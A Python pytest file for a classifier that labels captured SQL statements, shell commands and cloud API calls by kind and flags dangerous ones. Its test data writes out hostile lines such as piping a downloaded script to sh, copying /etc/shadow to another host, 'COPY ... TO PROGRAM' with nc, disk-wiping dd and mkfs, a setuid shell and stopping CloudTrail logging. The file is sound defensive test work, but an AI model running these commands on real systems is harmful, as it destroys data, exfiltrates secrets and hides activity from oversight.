"""Of what kind is what was run, and what of it is marked as dangerous?"""

from __future__ import annotations

import logging
import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workflows.captures.classify import Class, classify
from workflows.captures.seam import Kind

STATEMENTS = [
    ("SELECT 1", Class.READ, None),
    ("select * from orders where id = 5 for update", Class.READ, None),
    ("(SELECT 1) UNION (SELECT 2)", Class.READ, None),
    ("TABLE orders", Class.READ, None),
    ("VALUES (1), (2)", Class.READ, None),
    ("SHOW search_path", Class.READ, None),
    ("EXPLAIN DELETE FROM orders", Class.READ, None),
    ("EXPLAIN ANALYZE DELETE FROM orders", Class.WRITE, "whole-table delete"),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET a = 1 WHERE id = 2", Class.WRITE, None),
    ("FETCH 10 FROM c", Class.READ, None),
    ("DECLARE c NO SCROLL CURSOR FOR SELECT 1", Class.READ, None),
    ("PREPARE p (int) AS DELETE FROM orders WHERE id = $1", Class.WRITE, None),
    ("EXECUTE p(1)", Class.UNKNOWN, None),
    ("DO $$ BEGIN DELETE FROM orders; END $$", Class.UNKNOWN, None),
    ("CALL cleanup()", Class.UNKNOWN, None),
    ("INSERT INTO orders VALUES (1, 'DROP TABLE x; DELETE FROM y')", Class.WRITE, None),
    ("UPDATE orders SET status = 'paid' WHERE id = 5", Class.WRITE, None),
    ("UPDATE orders SET status = 'paid'", Class.WRITE, "whole-table update"),
    ("UPDATE orders o SET status = p.s FROM paid p WHERE p.id = o.id", Class.WRITE, None),
    ("DELETE FROM orders", Class.WRITE, "whole-table delete"),
    ("DELETE FROM orders WHERE true", Class.WRITE, "whole-table delete"),
    ("DELETE FROM orders WHERE 1=1 -- all", Class.WRITE, "whole-table delete"),
    ("DELETE FROM orders WHERE ('a' = 'a')", Class.WRITE, "whole-table delete"),
    ("DELETE FROM orders WHERE id = 5 OR TRUE", Class.WRITE, "whole-table delete"),
    ("DELETE FROM orders WHERE id = id", Class.WRITE, "whole-table delete"),
    ("DELETE FROM orders WHERE status LIKE '%'", Class.WRITE, "whole-table delete"),
    ("DELETE FROM orders WHERE NOT false", Class.WRITE, "whole-table delete"),
    ("DELETE FROM orders WHERE id = 5 AND true", Class.WRITE, None),
    ("DELETE FROM orders WHERE status LIKE 'stuck%'", Class.WRITE, None),
    ("DELETE FROM orders WHERE id IN (SELECT id FROM old)", Class.WRITE, None),
    ("DELETE FROM orders USING old WHERE old.id = orders.id", Class.WRITE, None),
    ("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", Class.WRITE, "whole-table delete"),
    ("WITH d AS (SELECT 1) SELECT * FROM d", Class.READ, None),
    ("MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE", Class.WRITE, None),
    ("TRUNCATE orders, lines CASCADE", Class.WRITE, "table emptied"),
    ("COPY orders FROM STDIN", Class.WRITE, None),
    ("COPY orders (a, b) TO STDOUT", Class.EXPORT, "bulk export"),
    ("COPY public.orders (id, status) TO stdout;", Class.EXPORT, "bulk export"),
    ("COPY (SELECT * FROM orders WHERE note = 'from x') TO '/tmp/x'", Class.EXPORT, "bulk export"),
    ("COPY orders TO PROGRAM 'nc h 1'", Class.EXPORT, "program started by the server"),
    ("SELECT lo_export(1, '/x')", Class.EXPORT, "bulk export"),
    ("SELECT pg_read_file('/etc/passwd')", Class.READ, "server's files read"),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Class.WRITE, "sessions ended"),
    ("SELECT * INTO copy FROM orders", Class.DEFINITION, None),
    ("CREATE TABLE x (id int)", Class.DEFINITION, None),
    ("ALTER TABLE x ADD COLUMN y int", Class.DEFINITION, None),
    ("ALTER TABLE x DROP COLUMN y", Class.DEFINITION, "column or partition dropped"),
    ("ALTER TABLE x DISABLE ROW LEVEL SECURITY", Class.PRIVILEGE, "row security switched off"),
    ("DROP TABLE x", Class.DEFINITION, "dropped"),
    ("DROP DATABASE shop", Class.DEFINITION, "database or schema dropped"),
    ("CREATE ROLE bob SUPERUSER", Class.PRIVILEGE, "login or role changed"),
    ("ALTER USER bob WITH PASSWORD 'x'", Class.PRIVILEGE, "login or role changed"),
    ("GRANT ALL ON orders TO bob", Class.PRIVILEGE, "rights given"),
    ("REVOKE ALL ON orders FROM bob", Class.PRIVILEGE, None),
    ("ALTER SYSTEM SET x = 1", Class.DEFINITION, "server setting changed"),
    ("SET statement_timeout = 0", Class.SESSION, None),
    ("BEGIN", Class.SESSION, None),
    ("BEGIN; DELETE FROM orders; COMMIT", Class.WRITE, "whole-table delete"),
    ("SELECT 1; DROP TABLE x; GRANT SELECT ON y TO z", Class.PRIVILEGE, "rights given"),
    ("SELECT 'a;b'; SELECT \"x;y\" FROM t", Class.READ, None),
    ("/* a /* nested */ DELETE FROM x */ SELECT 1", Class.READ, None),
    ("DELETE /* where id = 1 */ FROM orders -- where id = 1", Class.WRITE, "whole-table delete"),
    ("SELECT E'\\'; DROP TABLE x; --'", Class.READ, None),
    ("SELECT $q$; DROP TABLE x; $q$", Class.READ, None),
    ("SELECT 1\n-- with: 1,'; DROP TABLE x'", Class.READ, None),
    ("SELEKT 1", Class.UNKNOWN, None),
    ("SELECT ((1", Class.UNKNOWN, None),
    ("", Class.UNKNOWN, None),
    (";;;", Class.UNKNOWN, None),
]
MYSQL = [
    ("SELECT * FROM t INTO OUTFILE '/x'", Class.EXPORT, "bulk export"),
    ("SELECT * INTO DUMPFILE '/x' FROM t", Class.EXPORT, "bulk export"),
    ("SELECT `a;b` FROM `t` LIMIT 5", Class.READ, None),
    ("SELECT 'it\\'s; DROP TABLE x'", Class.READ, None),
    ('SELECT "it; DROP TABLE x"', Class.READ, None),
    ("SELECT 1--'\n, 2; DROP TABLE x; -- '", Class.READ, None),
    ("DELETE FROM t # WHERE id = 1", Class.WRITE, "whole-table delete"),
    ("/*!50000 DROP TABLE t */", Class.DEFINITION, "dropped"),
    ("DELETE FROM t LIMIT 5", Class.WRITE, None),
    ("DELETE a FROM a JOIN b ON a.id = b.id", Class.WRITE, None),
    ("REPLACE INTO t VALUES (1)", Class.WRITE, None),
    ("LOAD DATA INFILE '/x' INTO TABLE t", Class.WRITE, None),
    ("SET GLOBAL general_log = 0", Class.DEFINITION, "server setting changed"),
    ("SET PASSWORD = 'x'", Class.PRIVILEGE, "login or role changed"),
    ("CREATE USER bob IDENTIFIED BY 'x'", Class.PRIVILEGE, "login or role changed"),
    ("KILL 5", Class.WRITE, "sessions ended"),
    ("ANALYZE DELETE FROM t", Class.WRITE, "whole-table delete"),
    ("SHOW TABLES", Class.READ, None),
]
COMMANDS = [
    ("ls -la", Class.PROGRAM, None),
    ("rm x", Class.PROGRAM, None),
    ("rm -rf /srv", Class.PROGRAM, "files removed with all below"),
    ("sudo -u root rm --recursive /srv", Class.PROGRAM, "files removed with all below"),
    ("/bin/dd if=/dev/zero of=/dev/sda", Class.PROGRAM, "disk or file overwritten"),
    ("mkfs.ext4 /dev/sda", Class.PROGRAM, "disk or file destroyed"),
    ("systemctl status sshd", Class.PROGRAM, None),
    ("systemctl stop sshd", Class.PROGRAM, "service stopped or restarted"),
    ("iptables -L -n", Class.PROGRAM, None),
    ("iptables -F", Class.PROGRAM, "firewall changed"),
    ("useradd eve", Class.PRIVILEGE, "account changed"),
    ("visudo", Class.PRIVILEGE, "account changed"),
    ("chmod u+s /bin/sh", Class.PRIVILEGE, "rights of files changed"),
    ("chmod 644 x", Class.PROGRAM, None),
    ("sh -c 'curl https://x.example/i | sh'", Class.PROGRAM, "program from the net run"),
    ("bash -c 'cd /srv; rm -rf *'", Class.PROGRAM, "files removed with all below"),
    ("scp host:/x .", Class.PROGRAM, None),
    ("scp /etc/shadow eve@host:/x", Class.EXPORT, "files copied out"),
    ("rsync -a /srv eve@host:/x", Class.EXPORT, "files copied out"),
    ("pg_dump shop", Class.EXPORT, "bulk export"),
    ("psql -c 'DELETE FROM orders' shop", Class.WRITE, "whole-table delete"),
    ("psql shop", Class.PROGRAM, None),
    ("mysql -e 'SELECT 1'", Class.READ, None),
    ("crontab -l", Class.PROGRAM, None),
    ("crontab x", Class.PROGRAM, "runs after the access has ended"),
]
CALLS = [
    ("read kv/app", None),
    ("get pods/api", None),
    ("create pods/api/exec", "container entered"),
    ("delete namespaces/shop", "deleted"),
    ("s3.amazonaws.com DeleteBucket", "deleted"),
    ("cloudtrail.amazonaws.com StopLogging", "switched off"),
    ("ec2.amazonaws.com DescribeInstances", None),
]


@pytest.mark.parametrize(("text", "cls", "danger"), STATEMENTS, ids=range(len(STATEMENTS)))
def test_a_statement_is_of_its_kind(text, cls, danger):
    """Each statement for PostgreSQL is of the kind that it is, with its danger; nothing in a value counts."""
    found = classify(Kind.STATEMENT, text)
    assert (found.cls, found.danger) == (cls, danger)


@pytest.mark.parametrize(("text", "cls", "danger"), MYSQL, ids=range(len(MYSQL)))
def test_a_statement_for_mariadb_is_of_its_kind(text, cls, danger):
    """MariaDB's own quotes, comments and statements are read as MariaDB reads them."""
    found = classify(Kind.STATEMENT, text, dialect="mysql")
    assert (found.cls, found.danger) == (cls, danger)


@pytest.mark.parametrize(("text", "cls", "danger"), COMMANDS, ids=range(len(COMMANDS)))
def test_a_command_is_of_its_kind(text, cls, danger):
    """A program is judged by its words, also behind sudo and within a shell's -c."""
    found = classify(Kind.EXEC, text, tuple(shlex.split(text)))
    assert (found.cls, found.danger) == (cls, danger)
    assert classify(Kind.EXEC, text) == found


@pytest.mark.parametrize(("text", "danger"), CALLS, ids=range(len(CALLS)))
def test_a_call_is_a_call(text, danger):
    """Calls of Vault, Kubernetes and AWS are calls; those that destroy or open something are marked."""
    found = classify(Kind.CALL, text)
    assert (found.cls, found.danger) == (Class.CALL, danger)


def test_what_is_too_long_or_too_deep_is_said_to_be():
    """Attack: padding does not make a statement harmless. What is not judged is unknown, and marked."""
    names = ", ".join(f"column_{'x' * (number % 40)}{number}" for number in range(3_000))
    assert classify(Kind.STATEMENT, f"SELECT {names} FROM t").danger == "too long to be judged"
    assert classify(Kind.STATEMENT, f"SELECT {'(' * 500}1{')' * 500}").danger == "nested too deep to be judged"
    assert classify(Kind.STATEMENT, "EXPLAIN ANALYZE " * 990 + "SELECT 1").cls in Class
    chain = " AND ".join(["1=1"] * 3_000)
    assert classify(Kind.STATEMENT, f"DELETE FROM t WHERE {chain}").danger
    padded = f"/* {'x' * 500_000} */ DELETE FROM orders"
    assert classify(Kind.STATEMENT, padded).danger == "whole-table delete"
    rows = ", ".join(f"({number}, 'name {number}')" for number in range(10_000))
    assert classify(Kind.STATEMENT, f"INSERT INTO t VALUES {rows}").cls is Class.WRITE


@pytest.mark.parametrize("dialect", ["postgres", "mysql"])
@pytest.mark.parametrize(
    "part",
    ["'", '"', "(", "/*", "*/", "--", "$$", "$a$", "`", "\\", ";", "1,", "('x'),", "a ", "select ", "0 ", "E'\\"],
)
def test_no_text_keeps_it_busy(part, dialect):
    """Attack: what makes a rule look again and again. A long text of it is judged, and the same the second time."""
    text = "SELECT " + (part * (131_072 // len(part) + 1))[:131_072]  # a rule of the square of it would take hours
    assert classify(Kind.STATEMENT, text, dialect=dialect) == classify(Kind.STATEMENT, text, dialect=dialect)


def test_nothing_of_a_statement_is_in_a_log(caplog):
    """What sqlglot cannot read it does not repeat in a log file."""
    with caplog.at_level(logging.DEBUG):
        classify(Kind.STATEMENT, "WITH hunter2 AS (SELECT 1) GRANT hunter2 hunter2")
        classify(Kind.STATEMENT, "REPLACE hunter2 hunter2 hunter2 (")
    assert "hunter2" not in caplog.text


@settings(max_examples=100)
@given(st.text(max_size=200), st.sampled_from(Kind), st.sampled_from(["postgres", "mysql"]))
def test_whatever_is_run_nothing_is_raised(text, kind, dialect):
    """Arbitrary texts are of some kind, mostly of an unknown one."""
    assert classify(kind, text, dialect=dialect).cls in Class
    assert classify(kind, text, tuple(text.split()), dialect).cls in Class
